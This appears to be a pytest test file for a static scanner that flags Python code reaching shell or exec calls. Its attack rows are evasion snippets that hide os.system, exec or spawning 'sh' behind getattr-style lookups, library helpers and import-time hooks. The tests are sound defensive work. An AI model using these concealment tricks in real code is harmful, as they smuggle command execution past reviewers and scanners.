        'import os\n[v for k, v in vars(os).items() if k.endswith("stem")][0]("id")',
        "concealed-name",
        id="vars-search",
    ),
    row(
        'import os\ndef f(n): return os.__dict__[n]("id")',
        "concealed-name",
        id="dict-runtime-key",
    ),
    row(
        'import os, inspect\ndict(inspect.getmembers(os))["system"]("id")',
        "concealed-name",
        id="getmembers",
    ),
    row(
        'import os, inspect\ninspect.getattr_static(os, "system")("id")',
        "concealed-name",
        "process",
        id="getattr-static",
    ),
    row(
        'import sys\ndef f(n): sys.modules[n].system("x")',
        "process",
        id="sys-modules-runtime",
    ),
    row(
        'import pkgutil\npkgutil.resolve_name("os:system")("id")',
        "concealed-name",
        "process",
        id="pkgutil",
    ),
    row(
        'import pydoc\npydoc.locate("os.system")("id")',
        "concealed-name",
        "process",
        id="pydoc-locate",
    ),
    row(
        'from hydra.utils import get_method\nget_method("os.system")("id")',
        "concealed-name",
        "process",
        id="hydra-get",
    ),
    row(
        'from werkzeug.utils import import_string\nimport_string("os.system")("id")',
        "concealed-name",
        "process",
        id="werkzeug",
    ),
    row(
        "import os\nclass E(Exception): pass\ntry: raise E(os)\n"
        'except E as e: e.args[0].system("x")',
        "concealed-name",
        id="raise-module",
    ),
    row(
        'import posix\nposix.posix_spawnp("sh", ["sh"], {})',
        "process",
        id="posix-more",
    ),
    row(
        'from torch.utils.collect_env import run\nrun("id")',
        "process",
        id="torch-subprocess",
    ),
    row(
        'from huggingface_hub.utils import run_subprocess\nrun_subprocess("id")',
        "process",
        id="hub-subprocess",
    ),
    row(
        'import tempfile\ntempfile._os.system("id")',
        "process",
        id="np-ostemp",
    ),
    row(
        'import transformers\ntransformers.utils.hub.os.system("id")',
        "process",
        id="transformers-os",
    ),
    row(
        'import importlib\nimportlib.sys.modules["os"].system("id")',
        "process",
        id="importlib-sys",
    ),
    row(
        'import os.path\nos.path.os.system("id")',
        "process",
        id="os-path-os",
    ),
    row(
        'import codecs\ncodecs.builtins.exec("x")',
        "code-from-text",
        id="codecs-builtins",
    ),
    row(
        'import collections\ncollections._sys.modules["os"].system("id")',
        "process",
        id="collections-sys",
    ),
    row(
        'import typing\ntyping.sys.modules["os"].system("id")',
        "process",
        id="typing-sys",
    ),
    row(
        'import warnings\nwarnings.sys.modules["builtins"].exec("id")',
        "code-from-text",
        id="warnings-sys",
    ),
    row(
        'import linecache\nlinecache.os.system("x")',
        "process",
        id="linecache",
    ),
]

HONEST = [
    row(
        "import os\nx = hasattr(os, 'fork') and getattr(os, 'O_BINARY', 0)", id="asked-of-a-module"
    ),
    row("import ctypes\nif ctypes: x = ctypes is None", id="whether-it-is-there"),
    row("import os\nassert os\nwhile not os: pass\nos", id="nothing-is-done"),
    row("import os\no: object = os\no.getcwd()", id="annotated-module"),
    row("import os as o\na, b = o, 1\na.getcwd()", id="unpacked-module"),
    row(
        "import os\nclass A:\n    o = os\n    def f(self): self.o.getcwd()", id="module-of-a-class"
    ),
    row("for c in Base.__subclasses__(): print(c)", id="subclasses-of-one"),
    row("import types\nisinstance(f, (types.FunctionType, types.LambdaType))", id="function-types"),
    row("from transformers import AutoModel\nAutoModel.x.system()", id="other-system"),
    row("import zmq\ndef f(c): return c.socket(1)", id="socket-of-something-else"),
    row("import sys\nsys.modules[__name__] = x\nsys.modules[n].forward", id="own-module"),
    row("import sys\nif 'torch' in sys.modules: x = sys.modules['torch'].nn", id="loaded-module"),
    row(
        "import importlib\ndef f(m, c): return getattr(importlib.import_module(m), c)(1)",
        id="class-by-its-name",
    ),
    row("import codecs, os\nos.getenv(codecs.encode('x', 'hex'))", id="encoded"),
    row("import importlib\nfor m in ('a', 'b'): importlib.import_module(m)", id="some-modules"),
    row("import os\nif 'RANK' in os.environ.keys(): x = 1", id="key-of-the-environment"),
    row("import os\nfor n in ('RANK', 'HOME'): os.environ.get(n)", id="some-variables"),
    row("import os\nos.path.expandvars('$HOME/x'); os.getenv(key='RANK')", id="plain-variables"),
    row(
        "import os\nos.open('x', os.O_WRONLY); os.open('/x', os.O_RDONLY); os.open('/x')",
        id="opened",
    ),
    row(
        "import zipfile\nzipfile.ZipFile('x').extractall(); zipfile.ZipFile('x').namelist()",
        id="zip",
    ),
    row("open('%s/x' % n, 'w'); open('{}/x'.format(n), 'w'); open('%d' % 1, 'w')", id="filled"),
    row("import requests\ndef f(s): s.post('x'); requests.request('GET', 'x')", id="not-a-session"),
    row("import requests\ndef f(m): requests.request(m, 'x'); requests.request()", id="some-verb"),
    row("import urllib.request as u\ndef f(): u.urlopen(u.Request('x'))", id="plain-request"),
    row("import torch\ntorch.load('x', weights_only=1, **{'a': 1, **k})", id="true-by-a-number"),
    row("import torch\nW = f()\ntorch.load('x', weights_only=W)", id="found-out-at-run-time"),
    row(
        "import numpy\nnumpy.load('x', 'r', False); numpy.load('x', allow_pickle=a)", id="no-pickle"
    ),
    row("import keras\nkeras.models.load_model('x', safe_mode=True)", id="safe-keras"),
    row("import builtins\nx = builtins.len\nx.y = 1; sys.argv = 2", id="nothing-replaced"),
    row("import sys\nsys.stdout = sys.stderr = x", id="other-names-of-sys"),
    row("type(x)(1); x.replace(a=1); (lambda x: x)(1)", id="other-calls"),
    row("import logging, warnings\nlogging.getLogger(); warnings.warn('~/.x')", id="logging"),
    row(
        "import os\nfrom pathlib import Path\nPath(__file__).parent.joinpath('x').open()",
        id="own-file",
    ),
    row("import timeit\nt = timeit.default_timer()", id="timer"),
    row("import torch\nx = torch.tensor([1]) % 2 * 3 + 1 / 2", id="tensors"),
    row("global x\nx = 1\ndef f():\n    global y, x\n    y = x\n    y.system()", id="global"),
    row("def f():\n    nonlocal x\n    x = 1\n    x.system()", id="nonlocal-of-nothing"),
    row("class A(B): x = 1\nA.x.y; A().z; A.x(A)", id="own-class"),
    row("class A(A): pass\nA.x", id="class-of-its-own"),
    row("x = y = x = lambda: y\nx()\nwith x() as (a, b): a.c", id="circle-of-calls"),
    row("class A(B, metaclass=C): pass\n@A\ndef f(): pass", id="metaclass"),
    row("'a%s' % b % c; '%s%s' % ('a', b); '{a}'.format(a=1); '{}'.format(1)", id="templates"),
    row("import os\ngetattr(x, 'ab'[n:]); getattr(x, 'ab'[9]); getattr(x, b'ab'[0])", id="parts"),
]


@pytest.mark.parametrize(("text", "kinds"), ATTACKS)
def test_an_attack_is_heard_of(text: str, kinds: list[str]) -> None:
    assert sorted(worst(text)) == sorted(kinds)


@pytest.mark.parametrize(("text", "kinds"), HONEST)
def test_an_honest_form_is_not(text: str, kinds: list[str]) -> None:
    assert worst(text) == kinds


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("(lambda: os.system('x'))()", id="lambda"),
        pytest.param("f = lambda: os.system('x')\nf()", id="named-lambda"),
        pytest.param("map(lambda x: os.system(x), y)", id="lambda-handed-on"),
        pytest.param("def f(): os.system('x')\ng = f\ng()", id="other-name"),
        pytest.param("class A:\n  def __call__(s): os.system('x')\nA()()", id="instance"),
        pytest.param("class A:\n  def g(s): os.system('x')\nA().g()", id="method"),
        pytest.param("class A:\n  def g(s): os.system('x')\na = A()\nh(a.g)", id="bound-method"),
        pytest.param(
            "class A:\n  def g(s): os.system('x')\n  def __init__(s): s.g()\nA()", id="self"
        ),
        pytest.param("class A:\n  def g(s): os.system('x')\nclass B(A): pass\nB().g()", id="base"),
        pytest.param("class T(Thread):\n  def run(s): os.system('x')\nT().start()", id="thread"),
        pytest.param(
            "class A:\n  def __init_subclass__(s): os.system('x')\nclass B(A): pass", id="derived"
        ),
        pytest.param(
            "class M(type):\n  def __new__(s): os.system('x')\nclass B(metaclass=M): pass",
            id="meta",
        ),
        pytest.param(
            "class D:\n  def __set_name__(s): os.system('x')\nclass B: d = D()", id="descriptor"
        ),
        pytest.param("class C:\n  def __enter__(s): os.system('x')\nwith C(): pass", id="context"),
        pytest.param("class A:\n  g = lambda s: os.system('x')\nA.g(1)", id="lambda-of-a-class"),
        pytest.param(
            "__name__ = '__main__'\nif __name__ == '__main__': os.system('x')", id="renamed"
        ),
        pytest.param(
            "globals()['__name__'] = '__main__'\nif __name__ == '__main__': os.system('x')",
            id="renamed-by-a-table",
        ),
        pytest.param("def f(*a: print(os.system('x'))): pass", id="annotation-of-the-rest"),
        pytest.param("[o := os for x in y]\no.system('x')", id="walrus-of-a-comprehension"),
        pytest.param("[os.system('x') for x in [os.system('y') for os in z]]", id="inner-target"),
    ],
)
def test_it_happens_at_import(text: str) -> None:
    kinds = {kind for _line, kind in found(f"import os\n{text}")}
    assert {"process-at-import"} <= kinds


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("m = None\nh = m\nm = h or os\nh.system('x')", id="circle"),
        pytest.param("".join("x = 1\n" for _ in range(200)) + "x = os\nx.system('y')", id="many"),
    ],
)
def test_no_road_is_too_long(text: str) -> None:
    assert worst(f"import os\n{text}") == ["process"]


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(
            "def f(): a99.system('x')\nimport os as a0\n"
            + "".join(f"a{number + 1} = a{number}\n" for number in range(99)),
            id="names",
        ),
        pytest.param("".join(f"from m{n} import *\n" for n in range(70)) + "x.y()", id="stars"),
    ],
)
def test_a_road_that_is_too_long_is_told(text: str) -> None:
    assert (1, "no-python") in found(text)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("import a\nx = a\n" + "x = x.y.z\n" * 500, id="attributes"),
        pytest.param("class A(A):\n    def f(self): self.x.y\n" * 200, id="classes"),
        pytest.param(
            "".join(f"class A{n}(A{n - 1}): pass\n" for n in range(1, 200)) + "A199.x", id="bases"
        ),
        pytest.param("x = " + " + ".join(["a"] * 500), id="sum"),
        pytest.param(
            "x = b\n" + "".join(f"x = x.a{n}(x.b{n}) if x else x.c{n}\n" for n in range(99)),
            id="changed-often",
        ),
        pytest.param(
            "import a\nx = a.b()\n" + "".join(f"x = x.a{n}().b{n}()\n" for n in range(99)),
            id="calls-of-results",
        ),
        pytest.param("n = 'a'\n" * 99 + "getattr(x, n)", id="texts"),
    ],
)
def test_what_is_long_is_not_entangled(text: str) -> None:
    assert found(text) == []
